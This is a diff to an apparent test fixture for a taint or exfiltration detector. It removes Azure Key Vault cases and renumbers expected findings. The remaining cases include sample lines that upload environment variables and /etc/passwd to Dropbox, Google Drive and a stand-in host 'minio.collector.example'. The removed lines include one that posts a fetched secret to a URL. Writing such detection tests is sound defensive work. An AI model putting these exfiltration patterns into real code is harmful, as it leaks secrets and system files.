@@ -6,7 +6,6 @@ import boto3
 import dropbox
 import minio
 import requests
-from azure.keyvault.secrets import SecretClient
 from azure.storage.blob import BlobClient, BlobServiceClient
 from azure.storage.queue import QueueClient
 from google.cloud import bigquery, pubsub_v1, secretmanager, storage
@@ -219,41 +218,32 @@ def azure_queue(queue: QueueClient):
     queue.send_message("ping")  #~ ok
 
 
-def azure_secret(client: SecretClient):
-    secret = client.get_secret("s")  #~ source(CREDENTIAL) f36, capability(CREDENTIALS)
-    requests.post(U, data=secret.value)  #~ sink(egress.http) f36, finding(traced) f36
-
-
-def azure_secret_compared(client: SecretClient):
-    requests.post(U, data={"none": client.get_secret("s") == ()})  #~ ok
-
-
 def box():
     d = dropbox.Dropbox("token")
-    d.files_upload(os.getenvb(b"T"), "/x")  #~ source(ENVIRONMENT) f38, sink(egress.cloud) f38, finding(traced) f38, capability(NETWORK)
+    d.files_upload(os.getenvb(b"T"), "/x")  #~ source(ENVIRONMENT) f36, sink(egress.cloud) f36, finding(traced) f36, capability(NETWORK)
     d.files_upload(b"ping", "/x")  #~ ok
 
 
 def minio_object():
     m = minio.Minio("minio.collector.example")
-    m.put_object("bucket", "key", io.BytesIO(os.getenvb(b"T")), 10)  #~ source(ENVIRONMENT) f39, sink(egress.cloud) f39, finding(traced) f39, capability(NETWORK)
+    m.put_object("bucket", "key", io.BytesIO(os.getenvb(b"T")), 10)  #~ source(ENVIRONMENT) f37, sink(egress.cloud) f37, finding(traced) f37, capability(NETWORK)
     m.put_object("bucket", "key", io.BytesIO(b"ping"), 4)  #~ ok
 
 
 def minio_file():
     m = minio.Minio("minio.collector.example")
-    m.fput_object("bucket", "key", "/etc/passwd")  #~ source(FILE) f40, sink(egress.cloud) f40, finding(traced) f40, capability(NETWORK), capability(FILES)
+    m.fput_object("bucket", "key", "/etc/passwd")  #~ source(FILE) f38, sink(egress.cloud) f38, finding(traced) f38, capability(NETWORK), capability(FILES)
     fput_object = None  #~ ok
 
 
 def drive_file():
-    media = MediaFileUpload("/etc/passwd")  #~ source(FILE) f41, capability(FILES)
-    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f41, finding(traced) f41, capability(NETWORK)
+    media = MediaFileUpload("/etc/passwd")  #~ source(FILE) f39, capability(FILES)
+    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f39, finding(traced) f39, capability(NETWORK)
 
 
 def drive_text():
-    media = MediaInMemoryUpload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f42
-    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f42, finding(traced) f42
+    media = MediaInMemoryUpload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40
+    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f40, finding(traced) f40
 
 
 def drive_constants():
